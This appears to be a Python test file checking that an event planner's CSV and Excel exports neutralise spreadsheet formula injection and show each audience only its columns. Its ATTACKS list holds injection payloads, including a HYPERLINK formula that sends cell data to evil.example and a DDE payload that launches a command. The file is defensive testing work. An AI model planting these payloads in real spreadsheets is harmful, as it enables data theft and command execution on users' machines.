"""Spreadsheet exports (CSV, Excel): whatever a title, name or note holds, no cell is a formula
when the file is opened, the text is still readable as typed, and each audience sees only its
columns."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st
from support.paths import DATA, ROOT
from support.plans import event, plan

from planner import load_plan, parse_plan
from planner.exports.ics import delegation_feed, full_feed, public_feed
from planner.exports.tables import FORMULA_START, export_table, is_formula, neutralise

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1\n=2+2",
]


def _plan_with(title: str, notes: str = "", person: str = "Escort", city: str = "Amiens"):
    document = plan(
        event(
            "a",
            "2027-05-07T10:00",
            "2027-05-07T11:00",
            "rathaus",
            title=title,
            notes=notes,
            delegations=["amiens"],
            people=["esc"],
            public=True,
        ),
        event(
            "b",
            "2027-05-07T12:00",
            "2027-05-07T13:00",
            "park",
            title="Other delegation",
            notes="secret of Leeds",
            delegations=["leeds"],
        ),
    )
    document["people"][2]["name"] = person
    document["delegations"][0]["city"] = city
    return parse_plan(document)


def _csv_cells(data: bytes, separator: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for umlauts
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


# An apostrophe `neutralise` put after a separator or line break, before what would begin a formula.
_INNER_APOSTROPHE = re.compile(r"""([,;\r\n]++ *+)'(?=[ "]*+(?:[""" + re.escape("".join(sorted(FORMULA_START))) + r"""]|\Z))""")


def _read_back(cell: str) -> str:
    """What a person reads in a neutralised CSV cell: the text without the apostrophes."""
    cell = cell[1:] if cell.startswith("'") and is_formula(cell[1:]) else cell
    return _INNER_APOSTROPHE.sub(r"\1", cell)


def test_every_formula_attack_is_neutralised_in_csv():
    for attack in ATTACKS:
        sample = _plan_with(attack, notes=attack, person=attack)
        cells = [cell for row in _csv_cells(export_table(sample, full_feed(sample), "csv")) for cell in row]
        assert not any(is_formula(cell) for cell in cells), attack
        assert [c for c in cells if c.startswith("'")], attack  # it was there, and was neutralised
        assert sample.events[0].title in [_read_back(c) for c in cells], attack


def test_excel_cells_are_text_never_formulas():
    for attack in ATTACKS:
        sample = _plan_with(attack, notes=attack, person=attack)
        book = openpyxl.load_workbook(io.BytesIO(export_table(sample, full_feed(sample), "xlsx")))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert all(cell.data_type in ("s", "inlineStr") for cell in cells), attack
        titled = [cell for cell in cells if cell.value == sample.events[0].title.replace("\r", "\ufffd")]
        assert titled, attack
        # Excel's quote prefix keeps the cell text even after someone edits it.
        assert all(cell.quotePrefix for cell in titled), attack


def test_the_raw_excel_file_holds_no_formula_element():
    sample = _plan_with(ATTACKS[0])
    data = export_table(sample, full_feed(sample), "xlsx")
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    assert b"HYPERLINK" in sheet  # as text


texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)


@settings(max_examples=40)  # each example writes and reads nine files
@given(title=texts, notes=texts, person=texts.filter(lambda s: s.strip()), city=texts.filter(lambda s: s.strip()))
def test_any_text_stays_text_in_both_formats(title, notes, person, city):
    try:
        sample = _plan_with(title or "x", notes, person, city)
    except Exception:  # the plan refuses text it cannot hold (checked elsewhere): nothing to export
        return
    for feed in (full_feed(sample), delegation_feed(sample, "amiens"), public_feed(sample)):
        for lang, separator in (("en", ","), ("de", ";")):
            cells = [c for row in _csv_cells(export_table(sample, feed, "csv", lang), separator) for c in row]
            assert not any(is_formula(c) for c in cells)
            assert sample.events[0].title in [_read_back(c) for c in cells]
        book = openpyxl.load_workbook(io.BytesIO(export_table(sample, feed, "xlsx")))
        assert all(cell.data_type in ("s", "inlineStr") for row in book.active.iter_rows() for cell in row)


def test_neutralise_leaves_ordinary_values_alone():
    assert neutralise("Golden Book Amiens") == "Golden Book Amiens"
    assert neutralise("14:00") == "14:00" and neutralise(3) == 3 and neutralise("") == ""
    assert neutralise("=1") == "'=1" and neutralise("  -1") == "'  -1"
    assert {"=", "+", "-", "@", "\t", "\r"} <= FORMULA_START


def test_guests_and_public_see_only_their_columns_and_rows():
    sample = _plan_with("Reception", notes="internal: VIP parking")
    internal = _csv_cells(export_table(sample, full_feed(sample), "csv"))
    assert internal[0] == [
        "Day",
        "Start",
        "End",
        "Title",
        "Kind",
        "Venue",
        "Address",
        "Delegations",
        "People",
        "Status",
        "Public",
        "Notes",
        "ID",
    ]
    assert internal[1][:4] == ["2027-05-07", "10:00", "11:00", "Reception"]
    assert "internal: VIP parking" in internal[1] and len(internal) == 3

    guest = _csv_cells(export_table(sample, delegation_feed(sample, "amiens"), "csv"))
    text = repr(guest)
    assert "Notes" not in guest[0] and "VIP parking" not in text and "Leeds" not in text and len(guest) == 2
    public = _csv_cells(export_table(sample, public_feed(sample), "csv", "de"), ";")
    assert public[0] == ["Tag", "Beginn", "Ende", "Titel", "Art", "Ort", "Adresse", "Status", "Öffentlich"]
    assert len(public) == 2 and "Escort" not in repr(public)


def test_cli_export_table(tmp_path):
    out = tmp_path / "amiens.xlsx"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "planner",
            "export-table",
            str(DATA / "dortbunt-2027.json"),
            "--delegation",
            "amiens",
            "-o",
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    sample = load_plan(DATA / "dortbunt-2027.json")
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert len(rows) == 1 + len(delegation_feed(sample, "amiens").events)
    done = subprocess.run(
        [sys.executable, "-m", "planner", "export-table", str(DATA / "dortbunt-2027.json"), "--venue", "nowhere"],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 2 and done.stderr.strip() == "error: unknown venue 'nowhere'"
